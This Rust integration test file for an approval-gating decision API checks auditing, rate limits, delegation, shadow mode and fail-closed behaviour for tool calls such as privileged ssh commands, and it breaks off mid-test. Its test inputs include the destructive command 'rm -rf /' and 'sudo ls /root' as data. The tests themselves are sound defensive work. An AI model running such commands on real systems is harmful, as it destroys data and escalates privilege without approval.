//! The decision API through the router (`oneshot`): decisions with their audit rows and jobs,
//! bad input, idempotency, delegation, rate limits, long-polling, cancellation, and failing
//! closed when the audit trail cannot be written. On SQLite, and the core on PostgreSQL.

use axum::{
    body::Body,
    http::{HeaderMap, Request, StatusCode},
    Router,
};
use http_body_util::BodyExt;
use serde_json::{json, Value};
use server::store::{JobStatus, Store, VoteRecord};
use server::{app, AppState, Config, Database};
use sqlx::{Connection, Executor};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tower::ServiceExt;

struct Api {
    router: Router,
    state: AppState,
    db: Database,
    _dir: Option<tempfile::TempDir>,
    pg_schema: Option<String>,
}

fn pg_url() -> String {
    std::env::var("CS_TEST_POSTGRES_URL")
        .unwrap_or_else(|_| "postgres://postgres@127.0.0.1:5432/test".to_string())
}

fn policy() -> Arc<enforcer::PolicySet> {
    Arc::new(enforcer::default_policy().expect("default policy"))
}

async fn sqlite_api(tune: impl FnOnce(&mut Config)) -> Api {
    sqlite_api_on(policy(), tune).await
}

async fn sqlite_api_on(policy: Arc<enforcer::PolicySet>, tune: impl FnOnce(&mut Config)) -> Api {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut config = Config {
        database_url: format!("sqlite://{}", dir.path().join("api.db").display()),
        ..Config::default()
    };
    tune(&mut config);
    let db = Database::connect(&config).await.expect("sqlite");
    db.migrate().await.expect("migrate");
    let state = AppState::new(&config, db.clone(), policy).expect("state");
    Api {
        router: app(state.clone()),
        state,
        db,
        _dir: Some(dir),
        pg_schema: None,
    }
}

async fn postgres_api() -> Api {
    let schema = format!("cs_test_{}", uuid::Uuid::new_v4().simple());
    let mut admin = sqlx::PgConnection::connect(&pg_url())
        .await
        .expect("postgres");
    admin
        .execute(format!("CREATE SCHEMA {schema}").as_str())
        .await
        .expect("schema");
    let options = <sqlx::postgres::PgConnectOptions as std::str::FromStr>::from_str(&pg_url())
        .expect("url")
        .options([("search_path", schema.as_str())]);
    let pool = sqlx::postgres::PgPoolOptions::new()
        .max_connections(8)
        .connect_with(options)
        .await
        .expect("pool");
    let db = Database::Postgres(pool);
    db.migrate().await.expect("migrate");
    let config = Config {
        database_url: pg_url(),
        ..Config::default()
    };
    let state = AppState::new(&config, db.clone(), policy()).expect("state");
    Api {
        router: app(state.clone()),
        state,
        db,
        _dir: None,
        pg_schema: Some(schema),
    }
}

/// One request through the router with a bearer token: status, headers and the JSON body (or
/// null). A free function so that spawned tasks (long-polls) can use it too.
async fn send(
    router: Router,
    method: &str,
    uri: &str,
    token: &str,
    body: Option<String>,
    headers: &[(&str, &str)],
) -> (StatusCode, HeaderMap, Value) {
    let mut req = Request::builder()
        .method(method)
        .uri(uri)
        .header("authorization", format!("Bearer {token}"));
    if body.is_some() {
        req = req.header("content-type", "application/json");
    }
    for (name, value) in headers {
        req = req.header(*name, *value);
    }
    let response = router
        .oneshot(
            req.body(body.map_or_else(Body::empty, Body::from))
                .expect("req"),
        )
        .await
        .expect("answer");
    let status = response.status();
    let headers = response.headers().clone();
    let bytes = response
        .into_body()
        .collect()
        .await
        .expect("body")
        .to_bytes();
    let value = serde_json::from_slice(&bytes).unwrap_or(Value::Null);
    (status, headers, value)
}

impl Api {
    async fn token(&self, name: &str, roles: &[&str], caps: &[&str]) -> String {
        let roles: Vec<String> = roles.iter().map(|r| r.to_string()).collect();
        let caps: Vec<String> = caps.iter().map(|c| c.to_string()).collect();
        server::services::identity::api_tokens::create(&self.db.store(), name, &roles, &caps)
            .await
            .expect("token")
            .1
    }

    async fn call(
        &self,
        method: &str,
        uri: &str,
        token: &str,
        body: Option<String>,
        headers: &[(&str, &str)],
    ) -> (StatusCode, HeaderMap, Value) {
        send(self.router.clone(), method, uri, token, body, headers).await
    }

    async fn decide(&self, token: &str, body: Value) -> (StatusCode, Value) {
        let (status, _, value) = self
            .call(
                "POST",
                "/api/v1/decisions",
                token,
                Some(body.to_string()),
                &[],
            )
            .await;
        (status, value)
    }

    async fn audit_rows(&self) -> Vec<server::store::AuditRecord> {
        self.state
            .store
            .audit_page(0, 1_000)
            .await
            .expect("audit")
            .into_iter()
            .filter(|r| r.event.kind == server::store::EventKind::Decision)
            .collect()
    }

    async fn drop_schema(self) {
        if let Some(schema) = &self.pg_schema {
            self.db.close().await;
            let mut admin = sqlx::PgConnection::connect(&pg_url())
                .await
                .expect("postgres");
            let _ = admin
                .execute(format!("DROP SCHEMA {schema} CASCADE").as_str())
                .await;
        }
    }
}

const OPS: [&str; 3] = ["ssh-linux", "remote-exec", "local-shell"];

fn sudo_ls() -> Value {
    json!({ "tool": "ssh-exec", "operation": "executeCommand", "args": { "command": "sudo ls /root" },
            "target": "web-1", "reason": "look at root's files" })
}

async fn decisions_are_audited_and_queued(api: &Api) {
    let token = api.token("it-mcp", &[], &OPS).await;

    let (status, allow) = api
        .decide(
            &token,
            json!({ "tool": "system-overview", "operation": "getOverview" }),
        )
        .await;
    assert_eq!(
        (status, allow["action"].as_str()),
        (StatusCode::OK, Some("allow")),
        "{allow}"
    );
    assert!(allow.get("job_id").is_none());

    let (_, deny) = api
        .decide(&token, json!({ "tool": "no-such-tool", "operation": "x" }))
        .await;
    assert_eq!(deny["action"], "deny");
    assert!(deny["reasons"][0]
        .as_str()
        .is_some_and(|r| r.contains("unknown tool")));

    let (_, pending) = api.decide(&token, sudo_ls()).await;
    assert_eq!(pending["action"], "require_approval", "{pending}");
    assert_eq!(pending["status"], "queued");
    let job_id = pending["job_id"].as_str().expect("job id").to_string();
    assert_eq!(pending["status_url"], format!("/api/v1/jobs/{job_id}"));

    // Every answer's audit row is there, with the decision it announced.
    let rows = api.audit_rows().await;
    for answer in [&allow, &deny, &pending] {
        let row = rows
            .iter()
            .find(|r| r.id == answer["audit_id"].as_str().unwrap_or_default())
            .expect("audit row for the answer");
        assert_eq!(
            row.event.decision_action,
            answer["action"].as_str().unwrap_or_default()
        );
        assert_eq!(row.event.caller_id, "it-mcp");
        assert_eq!(row.seq, answer["audit_seq"].as_i64().unwrap_or_default());
    }
    let job = api.state.store.job(&job_id).await.expect("job");
    assert_eq!(job.status, JobStatus::Queued);
    assert_eq!(job.risk, server::store::Risk::High);
    assert_eq!(job.submitted_by.as_deref(), Some("it-mcp"));
    assert_eq!(
        job.requester_reason.as_deref(),
        Some("look at root's files")
    );
    assert_eq!(
        job.decision_audit_id.as_deref(),
        pending["audit_id"].as_str()
    );
    assert_eq!(
        Some(job.call_hash.as_str()),
        pending["decision"]["call_hash"].as_str()
    );

    // The requester sees the job; a stranger does not (404, not 403).
    let (status, _, view) = api
        .call("GET", &format!("/api/v1/jobs/{job_id}"), &token, None, &[])
        .await;
    assert_eq!(
        (status, view["status"].as_str()),
        (StatusCode::OK, Some("queued"))
    );
    let stranger = api.token("other-tool", &[], &OPS).await;
    let (status, _, _) = api
        .call(
            "GET",
            &format!("/api/v1/jobs/{job_id}"),
            &stranger,
            None,
            &[],
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn decisions_are_audited_and_queued_on_sqlite() {
    let api = sqlite_api(|_| {}).await;
    decisions_are_audited_and_queued(&api).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn decisions_are_audited_and_queued_on_postgres() {
    let api = postgres_api().await;
    decisions_are_audited_and_queued(&api).await;
    idempotent_retries(&api).await;
    api.drop_schema().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_requests_get_a_stable_code_and_the_field() {
    let api = sqlite_api(|_| {}).await;
    let token = api.token("it-mcp", &[], &OPS).await;
    let cases: Vec<(String, StatusCode, &str, Option<&str>)> = vec![
        (
            "{\"tool\":".into(),
            StatusCode::BAD_REQUEST,
            "malformed_json",
            None,
        ),
        (
            "[1,2]".into(),
            StatusCode::BAD_REQUEST,
            "invalid_body",
            None,
        ),
        (
            r#"{"tool":"t","operation":"o","sudo":true}"#.into(),
            StatusCode::BAD_REQUEST,
            "unknown_field",
            Some("sudo"),
        ),
        (
            r#"{"tool":"t"}"#.into(),
            StatusCode::BAD_REQUEST,
            "missing_field",
            Some("operation"),
        ),
        (
            r#"{"tool":"t","operation":"o","args":"rm -rf /"}"#.into(),
            StatusCode::BAD_REQUEST,
            "invalid_type",
            Some("args"),
        ),
        (
            r#"{"tool":"t","operation":"o","target":5}"#.into(),
            StatusCode::BAD_REQUEST,
            "invalid_type",
            Some("target"),
        ),
        (
            format!(
                r#"{{"tool":"t","operation":"o","args":{{"x":"{}"}}}}"#,
                "a".repeat(70_000)
            ),
            StatusCode::PAYLOAD_TOO_LARGE,
            "body_too_large",
            None,
        ),
    ];
    for (body, status, code, field) in cases {
        let (got, _, value) = api
            .call("POST", "/api/v1/decisions", &token, Some(body.clone()), &[])
            .await;
        assert_eq!(
            (got, value["error"].as_str()),
            (status, Some(code)),
            "{}",
            &body[..body.len().min(60)]
        );
        assert_eq!(value["field"].as_str(), field);
    }
    // A form post is not JSON.
    let (status, _, value) = api
        .call(
            "POST",
            "/api/v1/decisions",
            &token,
            None,
            &[("content-type", "application/x-www-form-urlencoded")],
        )
        .await;
    assert_eq!(
        (status, value["error"].as_str()),
        (
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            Some("unsupported_media_type")
        )
    );
    // No token, or a bad one: 401 and nothing decided.
    let (status, _, _) = api
        .call(
            "POST",
            "/api/v1/decisions",
            "cs_nope",
            Some(sudo_ls().to_string()),
            &[],
        )
        .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(
        api.audit_rows().await.is_empty(),
        "refused requests decide nothing"
    );
}

async fn idempotent_retries(api: &Api) {
    let token = api.token("retrying-tool", &[], &OPS).await;
    let before = api.audit_rows().await.len();
    let body = sudo_ls().to_string();
    let key = [("idempotency-key", "retry-0001")];
    let (s1, h1, first) = api
        .call(
            "POST",
            "/api/v1/decisions",
            &token,
            Some(body.clone()),
            &key,
        )
        .await;
    let (s2, h2, second) = api
        .call(
            "POST",
            "/api/v1/decisions",
            &token,
            Some(body.clone()),
            &key,
        )
        .await;
    assert_eq!((s1, s2), (StatusCode::OK, StatusCode::OK));
    assert_eq!(first, second, "the retry gets the first answer");
    assert!(h1.get("idempotent-replayed").is_none());
    assert_eq!(
        h2.get("idempotent-replayed").map(|v| v.as_bytes()),
        Some(b"true".as_slice())
    );
    assert_eq!(
        api.audit_rows().await.len(),
        before + 1,
        "one decision, one row, one job"
    );
    // The same key for a different call is refused.
    let other = json!({ "tool": "system-overview", "operation": "getOverview" }).to_string();
    let (status, _, value) = api
        .call("POST", "/api/v1/decisions", &token, Some(other), &key)
        .await;
    assert_eq!(
        (status, value["error"].as_str()),
        (
            StatusCode::UNPROCESSABLE_ENTITY,
            Some("idempotency_key_reused")
        )
    );
    // Keys are per caller: another caller's identical key is a new request.
    let token2 = api.token("another-tool", &[], &OPS).await;
    let (_, h3, third) = api
        .call("POST", "/api/v1/decisions", &token2, Some(body), &key)
        .await;
    assert!(h3.get("idempotent-replayed").is_none());
    assert_ne!(third["audit_id"], first["audit_id"]);
    let (status, _, value) = api
        .call(
            "POST",
            "/api/v1/decisions",
            &token,
            Some(sudo_ls().to_string()),
            &[("idempotency-key", "has space")],
        )
        .await;
    assert_eq!(
        (status, value["field"].as_str()),
        (StatusCode::BAD_REQUEST, Some("Idempotency-Key"))
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn idempotent_retries_on_sqlite() {
    idempotent_retries(&sqlite_api(|_| {}).await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_service_acts_for_a_person_only_when_allowed() {
    let api = sqlite_api(|c| c.api_delegating_callers = Some("it-mcp".into())).await;
    let it_mcp = api.token("it-mcp", &[], &OPS).await;
    let other = api.token("other-tool", &[], &OPS).await;
    let mut body = sudo_ls();
    body["on_behalf_of"] = json!("alice");
    let (status, _, value) = api
        .call(
            "POST",
            "/api/v1/decisions",
            &other,
            Some(body.to_string()),
            &[],
        )
        .await;
    assert_eq!(
        (status, value["error"].as_str()),
        (StatusCode::FORBIDDEN, Some("delegation_not_allowed"))
    );
    let (status, _, value) = api
        .call(
            "POST",
            "/api/v1/decisions",
            &it_mcp,
            Some(body.to_string()),
            &[],
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        (value["requester"].as_str(), value["caller"].as_str()),
        (Some("alice"), Some("it-mcp"))
    );
    let job = api
        .state
        .store
        .job(value["job_id"].as_str().unwrap_or_default())
        .await
        .expect("job");
    assert_eq!(
        (job.requester.as_str(), job.submitted_by.as_deref()),
        ("alice", Some("it-mcp"))
    );
    let row = api.audit_rows().await.pop().expect("row");
    assert_eq!(row.event.caller_id, "alice");
    let context: Value = serde_json::from_str(&row.event.context).expect("context");
    assert_eq!(
        (context["caller"].as_str(), context["on_behalf_of"].as_str()),
        (Some("it-mcp"), Some("alice"))
    );
    // A person's token can only be checked with an identity provider.
    let (status, _, value) = api
        .call(
            "POST",
            "/api/v1/decisions",
            &it_mcp,
            Some(body.to_string()),
            &[("x-on-behalf-of-token", "eyJ.x.y")],
        )
        .await;
    assert_eq!(
        (status, value["error"].as_str()),
        (StatusCode::BAD_REQUEST, Some("person_token_unsupported"))
    );
}

/// `sudo ls DIR` on web-1: needs approval (HIGH).
fn sudo_ls_in(dir: &str) -> Value {
    let mut body = sudo_ls();
    body["args"]["command"] = json!(format!("sudo ls {dir}"));
    body
}

/// One request per call: the same caller's repeated call for the same requester joins the
/// request that still waits (the answer names the job and says `attached`; its audit row points
/// at that job); identical calls at once make one job; a decided request is not joined.
async fn repeated_calls_join_the_pending_request(api: &Api) {
    let token = api.token("it-mcp", &[], &OPS).await;
    let (_, first) = api.decide(&token, sudo_ls()).await;
    let job_id = first["job_id"].as_str().expect("a job").to_string();
    assert!(first.get("attached").is_none(), "{first}");

    let mut again = sudo_ls();
    again["reason"] = json!("the assistant asked again");
    let (status, second) = api.decide(&token, again).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        (
            second["action"].as_str(),
            second["job_id"].as_str(),
            second["attached"].as_bool()
        ),
        (Some("require_approval"), Some(job_id.as_str()), Some(true)),
        "{second}"
    );
    assert_eq!(second["status"], "queued");
    let rows = api.audit_rows().await;
    let row = rows
        .iter()
        .find(|r| r.id == second["audit_id"].as_str().unwrap_or_default())
        .expect("the repeated call's row");
    assert_eq!(row.event.job_id.as_deref(), Some(job_id.as_str()));
    let context: Value = serde_json::from_str(&row.event.context).expect("context");
    assert_eq!(context["attached"], true);

    // Other arguments, or another caller: their own requests.
    let (_, other_args) = api.decide(&token, sudo_ls_in("/etc")).await;
    assert_ne!(other_args["job_id"].as_str(), Some(job_id.as_str()));
    let other = api.token("other-tool", &[], &OPS).await;
    let (_, other_caller) = api.decide(&other, sudo_ls()).await;
    assert_ne!(other_caller["job_id"].as_str(), Some(job_id.as_str()));
    assert!(other_caller.get("attached").is_none());

    // Decided: the next identical call is a new request.
    approve(api, &job_id).await;
    let (_, after) = api.decide(&token, sudo_ls()).await;
    let after_id = after["job_id"].as_str().expect("a new job");
    assert_ne!(after_id, job_id);
    assert!(after.get("attached").is_none(), "{after}");

    // Eight identical calls at once: one job, seven attached.
    let body = sudo_ls_in("/var/log");
    let answers =
        futures_util::future::join_all((0..8).map(|_| api.decide(&token, body.clone()))).await;
    let jobs: std::collections::BTreeSet<_> = answers
        .iter()
        .map(|(_, a)| a["job_id"].as_str().unwrap_or_default().to_string())
        .collect();
    assert_eq!(jobs.len(), 1, "{answers:?}");
    let attached = answers
        .iter()
        .filter(|(_, a)| a["attached"].as_bool() == Some(true))
        .count();
    assert_eq!(attached, 7);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn repeated_calls_join_the_pending_request_on_sqlite() {
    repeated_calls_join_the_pending_request(&sqlite_api(|_| {}).await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn repeated_calls_join_the_pending_request_on_postgres() {
    let api = postgres_api().await;
    repeated_calls_join_the_pending_request(&api).await;
    api.drop_schema().await;
}

/// A caller with `max_pending_requests` requests waiting for a requester gets 429
/// `pending_limit` naming the limit for a new one; a repeat of a waiting one still joins it,
/// another requester is not held up, and a decided request frees a place.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn too_many_pending_requests_get_429_naming_the_limit() {
    let api = sqlite_api(|c| {
        c.max_pending_requests = 2;
        c.api_delegating_callers = Some("it-mcp".into());
    })
    .await;
    let token = api.token("it-mcp", &[], &OPS).await;
    let (_, first) = api.decide(&token, sudo_ls_in("/a")).await;
    let (_, second) = api.decide(&token, sudo_ls_in("/b")).await;
    assert!(first["job_id"].is_string() && second["job_id"].is_string());
    let (status, headers, refused) = api
        .call(
            "POST",
            "/api/v1/decisions",
            &token,
            Some(sudo_ls_in("/c").to_string()),
            &[],
        )
        .await;
    assert_eq!(
        (status, refused["error"].as_str()),
        (StatusCode::TOO_MANY_REQUESTS, Some("pending_limit")),
        "{refused}"
    );
    let message = refused["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("max_pending_requests") && message.contains("limit is 2"),
        "{message}"
    );
    assert!(headers.contains_key("retry-after"));
    // The refusal is in the trail: a decision row saying deny, the limit's sentence first.
    let rows = api.audit_rows().await;
    let row = rows
        .iter()
        .find(|r| r.event.context.contains(r#""refused":"pending_limit""#))
        .expect("the refusal's row");
    assert_eq!(row.event.decision_action, "deny");
    assert!(
        row.event
            .decision_reason
            .starts_with("it-mcp already has 2 requests waiting for approval"),
        "{}",
        row.event.decision_reason
    );
    assert!(row.event.job_id.is_none());
    let jobs_before = api.audit_rows().await.len();
    // A repeat of a waiting request joins it, at the limit too.
    let (status, repeat) = api.decide(&token, sudo_ls_in("/a")).await;
    assert_eq!(
        (
            status,
            repeat["job_id"].clone(),
            repeat["attached"].as_bool()
        ),
        (StatusCode::OK, first["job_id"].clone(), Some(true))
    );
    assert_eq!(api.audit_rows().await.len(), jobs_before + 1);
    // The limit is per requester: the same caller asking for alice is not held up.
    let mut for_alice = sudo_ls_in("/c");
    for_alice["on_behalf_of"] = json!("alice");
    let (status, _) = api.decide(&token, for_alice).await;
    assert_eq!(status, StatusCode::OK);
    // A decision frees a place.
    approve(&api, first["job_id"].as_str().unwrap_or_default()).await;
    let (status, third) = api.decide(&token, sudo_ls_in("/c")).await;
    assert_eq!(status, StatusCode::OK, "{third}");
    assert!(third["job_id"].is_string());
}

/// ssh-exec in shadow mode: a call enforcing would hold is allowed, says `would_block`, and its
/// row is `allow` with `requires_approval`; what enforcing denies stays denied; the figures
/// count it by operation, pattern and category, for auditors and admins only.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn shadow_mode_allows_records_and_counts_what_it_would_have_held() {
    let source = enforcer::default_policy()
        .expect("policy")
        .source()
        .replace(
            "[tools.ssh-exec.operations.executeCommand]",
            "[tools.ssh-exec.operations.executeCommand]\nmode = \"shadow\"",
        );
    assert!(
        source.contains("mode = \"shadow\""),
        "the policy names the operation"
    );
    let shadow = enforcer::PolicySet::load("shadow.toml", &source).expect("shadow policy");
    let api = sqlite_api_on(Arc::new(shadow), |_| {}).await;
    let token = api.token("it-mcp", &[], &OPS).await;

    let (status, answer) = api.decide(&token, sudo_ls()).await;
    assert_eq!(status, StatusCode::OK, "{answer}");
    assert_eq!(answer["action"], "allow", "{answer}");
    assert_eq!(answer["would_block"], true, "{answer}");
    assert!(
        answer.get("job_id").is_none(),
        "no request is queued: {answer}"
    );
    let reasons = answer["reasons"].to_string();
    assert!(
        reasons.contains("shadow mode: allowed, but enforcing would hold it")
            && reasons.contains("sudo"),
        "{reasons}"
    );
    // Without the capability it is denied, shadow mode or not.
    let weak = api.token("weak", &[], &[]).await;
    let (_, denied) = api.decide(&weak, sudo_ls()).await;
    assert_eq!(denied["action"], "deny", "{denied}");
    assert!(denied.get("would_block").is_none(), "{denied}");
    // An operation not in shadow mode still asks.
    let admin = api
        .token(
            "it-mcp-admin",
            &[],
            &["ssh-linux", "local-sudo", "system-modify"],
        )
        .await;
    let (_, held) = api
        .decide(
            &admin,
            json!({ "tool": "ubuntu-admin", "operation": "removePackage", "args": { "packages": ["nginx"] } }),
        )
        .await;
    assert_eq!(held["action"], "require_approval", "{held}");

    let rows = api.audit_rows().await;
    let row = rows
        .iter()
        .find(|r| r.event.id.as_deref() == answer["audit_id"].as_str())
        .expect("the decision's row");
    assert_eq!(row.event.decision_action, "allow");
    assert!(
        row.event.requires_approval,
        "the row says enforcing would have held it"
    );
    assert!(
        row.event.decision.contains("would_block"),
        "{}",
        row.event.decision
    );
    assert!(rows
        .iter()
        .all(|r| r.event.job_id.is_none() || r.event.tool == "ubuntu-admin"));

    let auditor = api.token("ann", &["auditor"], &[]).await;
    let (status, _, report) = api.call("GET", "/api/v1/shadow", &auditor, None, &[]).await;
    assert_eq!(status, StatusCode::OK, "{report}");
    assert_eq!(report["days"], 7);
    assert_eq!(report["total"], 1, "{report}");
    assert_eq!(
        report["by_operation"],
        json!([{ "tool": "ssh-exec", "operation": "executeCommand", "risk": "HIGH", "count": 1 }])
    );
    assert_eq!(
        report["by_category"][0]["category"], "privilege-escalation",
        "{report}"
    );
    assert_eq!(report["by_pattern"][0]["count"], 1, "{report}");
    assert_eq!(report["in_shadow"], json!(["ssh-exec.executeCommand"]));
    // Bad input is named; the figures are not for everyone.
    let (status, _, bad) = api
        .call("GET", "/api/v1/shadow?days=0", &auditor, None, &[])
        .await;
    assert_eq!(
        (status, bad["field"].as_str()),
        (StatusCode::BAD_REQUEST, Some("days")),
        "{bad}"
    );
    let (status, _, bad) = api
        .call("GET", "/api/v1/shadow?days=week", &auditor, None, &[])
        .await;
    assert_eq!(
        (status, bad["error"].as_str()),
        (StatusCode::BAD_REQUEST, Some("invalid_days")),
        "{bad}"
    );
    let (status, _, refused) = api.call("GET", "/api/v1/shadow", &token, None, &[]).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{refused}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn callers_over_their_rate_get_429_with_retry_after() {
    let api = sqlite_api(|c| {
        c.api_rate_limit_per_sec = 1;
        c.api_rate_limit_burst = 2;
    })
    .await;
    let token = api.token("chatty", &[], &OPS).await;
    let body = json!({ "tool": "system-overview", "operation": "getOverview" });
    assert_eq!(api.decide(&token, body.clone()).await.0, StatusCode::OK);
    assert_eq!(api.decide(&token, body.clone()).await.0, StatusCode::OK);
    let (status, headers, value) = api
        .call(
            "POST",
            "/api/v1/decisions",
            &token,
            Some(body.to_string()),
            &[],
        )
        .await;
    assert_eq!(
        (status, value["error"].as_str()),
        (StatusCode::TOO_MANY_REQUESTS, Some("rate_limited"))
    );
    assert_eq!(
        headers.get("retry-after").map(|v| v.as_bytes()),
        Some(b"1".as_slice())
    );
    assert_eq!(
        api.audit_rows().await.len(),
        2,
        "the refused request decided nothing"
    );
    let quiet = api.token("quiet", &[], &OPS).await;
    assert_eq!(
        api.decide(&quiet, body).await.0,
        StatusCode::OK,
        "buckets are per caller"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_long_poll_wakes_when_the_job_is_approved_and_tells_the_denial_reason() {
    let api = sqlite_api(|_| {}).await;
    let token = api.token("it-mcp", &[], &OPS).await;
    let (_, pending) = api.decide(&token, sudo_ls()).await;
    let job_id = pending["job_id"].as_str().expect("job").to_string();

    // Nothing happens: the poll returns after `wait` with the same status.
    let started = Instant::now();
    let (_, _, view) = api
        .call(
            "GET",
            &format!("/api/v1/jobs/{job_id}?wait=1"),
            &token,
            None,
            &[],
        )
        .await;
    assert_eq!(view["status"], "queued");
    assert!(started.elapsed() >= Duration::from_millis(900));

    let waiter = {
        let (router, token, uri) = (
            api.router.clone(),
            token.clone(),
            format!("/api/v1/jobs/{job_id}?wait=30"),
        );
        tokio::spawn(async move {
            let started = Instant::now();
            let (_, _, value) = send(router, "GET", &uri, &token, None, &[]).await;
            (started.elapsed(), value)
        })
    };
    tokio::time::sleep(Duration::from_millis(300)).await;
    let job = api
        .state
        .store
        .vote(
            &VoteRecord {
                job_id: job_id.clone(),
                approver: "dave".into(),
                verdict: enforcer::Verdict::Approve,
                reason: Some("fine".into()),
                created_at: chrono::Utc::now(),
            },
            no_audit,
        )
        .await
        .map(|(job, _)| job)
        .expect("vote");
    api.state.notify_job(&job);
    let (waited, view) = waiter.await.expect("waiter");
    assert_eq!(view["status"], "approved", "{view}");
    assert!(
        waited < Duration::from_secs(10),
        "woken by the approval, not the timeout"
    );
    assert_eq!(view["approvals"][0]["approver"], "dave");

    // A denial: the reviewer's reason is what the assistant is told.
    let (_, pending) = api.decide(&token, sudo_ls()).await;
    let denied_id = pending["job_id"].as_str().expect("job").to_string();
    api.state
        .store
        .vote(
            &VoteRecord {
                job_id: denied_id.clone(),
                approver: "erin".into(),
                verdict: enforcer::Verdict::Deny,
                reason: Some("use the read-only audit account".into()),
                created_at: chrono::Utc::now(),
            },
            no_audit,
        )
        .await
        .map(|(job, _)| job)
        .expect("deny");
    let (_, _, view) = api
        .call(
            "GET",
            &format!("/api/v1/jobs/{denied_id}?wait=5"),
            &token,
            None,
            &[],
        )
        .await;
    assert_eq!(
        (view["status"].as_str(), view["denial_reason"].as_str()),
        (Some("denied"), Some("use the read-only audit account"))
    );
    let (status, _, value) = api
        .call(
            "GET",
            &format!("/api/v1/jobs/{denied_id}?wait=soon"),
            &token,
            None,
            &[],
        )
        .await;
    assert_eq!(
        (status, value["field"].as_str()),
        (StatusCode::BAD_REQUEST, Some("wait"))
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_the_requester_cancels_and_only_before_it_runs() {
    let api = sqlite_api(|_| {}).await;
    let token = api.token("it-mcp", &[], &OPS).await;
    let auditor = api.token("audit-bot", &["auditor"], &[]).await;
    let (_, pending) = api.decide(&token, sudo_ls()).await;
    let job_id = pending["job_id"].as_str().expect("job").to_string();
    let cancel = format!("/api/v1/jobs/{job_id}/cancel");
    // An auditor may look but not cancel.
    assert_eq!(
        api.call(
            "GET",
            &format!("/api/v1/jobs/{job_id}"),
            &auditor,
            None,
            &[]
        )
        .await
        .0,
        StatusCode::OK
    );
    let (status, _, value) = api.call("POST", &cancel, &auditor, None, &[]).await;
    assert_eq!(
        (status, value["error"].as_str()),
        (StatusCode::FORBIDDEN, Some("not_requester"))
    );
    let (status, _, value) = api.call("POST", &cancel, &token, None, &[]).await;
    assert_eq!(
        (status, value["status"].as_str()),
        (StatusCode::OK, Some("cancelled"))
    );
    let (status, _, value) = api.call("POST", &cancel, &token, None, &[]).await;
    assert_eq!(
        (status, value["error"].as_str()),
        (StatusCode::CONFLICT, Some("conflict"))
    );
    let rows = api.state.store.audit_page(0, 100).await.expect("audit");
    assert!(rows.iter().any(|r| r.event.decision_action == "cancel"
        && r.event.job_id.as_deref() == Some(job_id.as_str())));
    let (status, _, _) = api
        .call("POST", "/api/v1/jobs/no-such-job/cancel", &token, None, &[])
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_is_allowed_when_the_audit_trail_cannot_be_written() {
    let api = sqlite_api(|_| {}).await;
    let token = api.token("it-mcp", &[], &OPS).await;
    let Database::Sqlite(pool) = &api.db else {
        panic!("sqlite")
    };
    sqlx::query("CREATE TRIGGER audit_full BEFORE INSERT ON audit_logs BEGIN SELECT RAISE(ABORT, 'disk full'); END")
        .execute(pool)
        .await
        .expect("trigger");
    for body in [
        json!({ "tool": "system-overview", "operation": "getOverview" }),
        sudo_ls(),
    ] {
        let (status, headers, value) = api
            .call(
                "POST",
                "/api/v1/decisions",
                &token,
                Some(body.to_string()),
                &[],
            )
            .await;
        assert_eq!(
            (status, value["error"].as_str()),
            (StatusCode::SERVICE_UNAVAILABLE, Some("unavailable"))
        );
        // Fail closed: never the enforcer's own answer (allow, for the overview), always deny.
        assert_eq!(
            value["action"], "deny",
            "no decision leaves without its audit row"
        );
        assert!(
            !value.to_string().contains("disk full"),
            "nothing internal in the answer"
        );
        assert!(headers.get("retry-after").is_some());
    }
    let queued: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM command_queue")
        .fetch_one(pool)
        .await
        .expect("count");
    assert_eq!(queued, 0, "no job without its decision on record");
    // Writable again: decisions resume by themselves.
    sqlx::query("DROP TRIGGER audit_full")
        .execute(pool)
        .await
        .expect("drop");
    assert_eq!(api.decide(&token, sudo_ls()).await.0, StatusCode::OK);
}

async fn approve(api: &Api, job_id: &str) {
    let job = api
        .state
        .store
        .vote(
            &VoteRecord {
                job_id: job_id.to_string(),
                approver: "dave".into(),
                verdict: enforcer::Verdict::Approve,
                reason: None,
                created_at: chrono::Utc::now(),
            },
            no_audit,
        )
        .await
        .map(|(job, _)| job)
        .expect("vote");
    api.state.notify_job(&job);
}

/// Agent identity is explicit: a token without the `agent` role (a viewer's, named like an
/// agent) cannot claim a job, keep its lease or report a run; each attempt is 403 and audited,
/// and the job stays for the real agent.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_an_agent_token_claims_jobs_or_reports_runs() {
    let api = sqlite_api(|_| {}).await;
    let it_mcp = api.token("it-mcp", &[], &OPS).await;
    let viewer = api.token("viewer-tok", &["viewer"], &[]).await;
    let agent = api.token("agent-1", &["agent"], &[]).await;
    let (_, pending) = api.decide(&it_mcp, sudo_ls()).await;
    let job_id = pending["job_id"].as_str().expect("job").to_string();
    approve(&api, &job_id).await;

    for path in [
        "/api/v1/agents/viewer-tok/claim",
        "/api/v1/agents/agent-1/claim",
    ] {
        let (status, _, value) = api.call("POST", path, &viewer, None, &[]).await;
        assert_eq!(
            (status, value["error"].as_str()),
